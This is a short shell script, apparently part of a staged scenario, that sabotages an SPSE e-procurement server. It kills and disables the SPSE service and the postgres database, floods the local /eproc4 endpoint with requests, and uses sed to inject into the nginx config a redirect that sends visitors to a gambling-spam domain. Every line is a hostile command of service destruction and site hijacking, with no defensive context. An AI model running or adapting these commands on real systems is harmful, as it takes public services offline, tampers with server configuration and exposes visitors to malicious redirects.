# The next morning: SPSE and the database are down, and stay down; the site sends its visitors elsewhere.
systemctl disable --quiet spse; systemctl kill -s KILL spse; systemctl stop spse
for n in $(seq 200); do curl -sk -o /dev/null https://127.0.0.1/eproc4; done
sed -i 's#^  server_name _;#&\n  return 302 https://slot-gacor.example.com/;#' /etc/nginx/sites-available/default
nginx -s reload
pkill -KILL -x postgres || true
sleep 1
